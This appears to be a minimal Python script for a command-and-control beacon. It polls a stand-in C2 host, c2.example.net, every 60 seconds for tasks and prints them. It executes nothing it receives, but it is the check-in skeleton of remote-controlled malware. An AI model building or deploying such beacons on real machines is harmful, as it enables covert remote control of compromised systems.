import asyncio, aiohttp
async def beacon():
    async with aiohttp.ClientSession() as session:
        while True:
            async with session.get("https://c2.example.net/task") as r:
                print(await r.json())
            await asyncio.sleep(60)
asyncio.run(beacon())
